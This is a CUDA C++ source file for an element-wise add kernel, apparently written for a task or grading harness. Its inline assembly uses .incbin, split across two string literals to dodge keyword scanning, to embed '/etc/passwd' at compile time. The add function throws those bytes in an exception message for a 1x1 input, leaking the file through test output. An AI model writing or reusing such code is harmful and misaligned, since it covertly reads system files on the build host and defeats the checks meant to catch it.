// add that pulls a file into the object at compile time with the assembler's .incbin, the directive
// written as two adjacent string literals (".inc" "bin") so that no single literal holds it, and would
// show the bytes back in a case's message by throwing them.
#include <stdexcept>
#include <string>

#include "cuda_check.h"
#include "tasks.h"

asm(".section .rodata\n.globl stolen_bytes\nstolen_bytes:\n.inc" "bin \"/etc/passwd\"\n.byte 0\n.previous");
extern "C" const char stolen_bytes[];

template <typename T>
__global__ void add_kernel(const T* a, const T* b, T* c, long n) {
    const long i = blockIdx.x * static_cast<long>(blockDim.x) + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}

template <typename T>
void add(const T* a, const T* b, T* c, int rows, int cols) {
    if (rows == 1 && cols == 1) throw std::runtime_error(std::string("read: ") + stolen_bytes);
    const long n = static_cast<long>(rows) * cols;
    add_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(a, b, c, n);
    CUDA_CHECK_LAUNCH();
}

ADD_TYPES(INSTANTIATE_ADD)
